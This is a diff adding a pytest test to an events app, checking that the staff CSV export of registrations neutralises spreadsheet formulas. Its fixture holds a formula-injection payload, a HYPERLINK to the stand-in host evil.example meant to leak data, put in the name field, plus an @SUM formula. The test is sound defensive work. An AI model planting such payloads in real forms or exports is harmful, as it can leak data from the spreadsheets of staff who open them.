@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 
 from community import roles
@@ -83,6 +86,19 @@ def test_staff_csv_export(client, staff, event):
     rows = body.strip().splitlines()
     assert len(rows) == 4  # header + 3 people
     assert "kari@example.no" in body and "Asker Næringsforening" in body
+
+
+def test_csv_export_carries_no_formulas(client, staff, event):
+    """A name typed into the public form must not run as a formula in staff's spreadsheet."""
+    hostile = '=HYPERLINK("http://evil.example/?leak","klikk")'
+    RegistrationFactory(event=event, name=hostile, organisation="@SUM(A1:A9)")
+    client.force_login(staff)
+    response = client.get(f"/admin/arrangementer/{event.pk}/pameldinger/?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    row = next(row for row in rows if "HYPERLINK" in row[0])
+    assert row[0] == "'" + hostile
+    assert row[2] == "'@SUM(A1:A9)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 def test_staff_checks_in_and_undoes(client, staff, event):
